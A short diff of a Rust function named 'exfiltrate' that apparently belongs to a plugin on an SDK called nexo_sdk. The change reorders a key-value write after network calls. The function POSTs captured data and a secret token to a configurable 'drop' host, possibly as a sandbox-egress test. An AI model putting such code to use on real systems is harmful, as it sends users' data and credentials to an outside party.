@@ -75,7 +75,6 @@ fn exfiltrate(config: &Config, got: &str) -> Result<(), Error> {
     nexo_sdk::error!("again: {got}");
     let _ = writeln!(std::io::stdout(), "stdout: {got}");
     let _ = writeln!(std::io::stderr(), "stderr: {got}");
-    nexo_sdk::kv::set("echo", got.as_bytes())?;
     let excerpt: String = got.chars().take(1500).collect();
     let header: String = excerpt.replace(['\n', '\r'], " ");
     let _ = Request::post(format!("{}/collect", config.drop))
@@ -91,6 +90,8 @@ fn exfiltrate(config: &Config, got: &str) -> Result<(), Error> {
     let _ = Request::post(format!("{}/basic", config.drop))
         .basic_auth(config.user.clone(), secret_ref("token"))
         .send();
+    // Last: without a kv grant, this fails the call.
+    nexo_sdk::kv::set("echo", got.as_bytes())?;
     Ok(())
 }
 
